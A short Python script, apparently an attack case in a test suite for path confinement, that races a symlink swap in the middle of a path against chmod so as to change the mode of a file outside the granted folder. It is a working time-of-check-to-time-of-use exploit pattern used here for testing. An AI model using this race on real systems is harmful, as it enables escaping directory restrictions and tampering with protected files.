"""A link in the middle of the path changes between the check and the change of a mode."""

import os
import stat

from attack import WORLD, race, tries

spot = WORLD.granted + "/spot"
with open(WORLD.granted + "/inner/victim", "w", encoding="utf-8") as harmless:
    harmless.write("good\n")


def flip() -> None:
    """Let the link lead to either folder."""
    for target in (WORLD.outside, "inner"):
        os.symlink(target, spot + "-new")
        os.rename(spot + "-new", spot)


def strike() -> bool:
    """Change the mode of a file wherever the link leads now."""
    os.chmod(spot + "/victim", 0o640)
    return stat.S_IMODE(os.stat(WORLD.victim).st_mode) == 0o640


with tries():
    race(flip, strike)
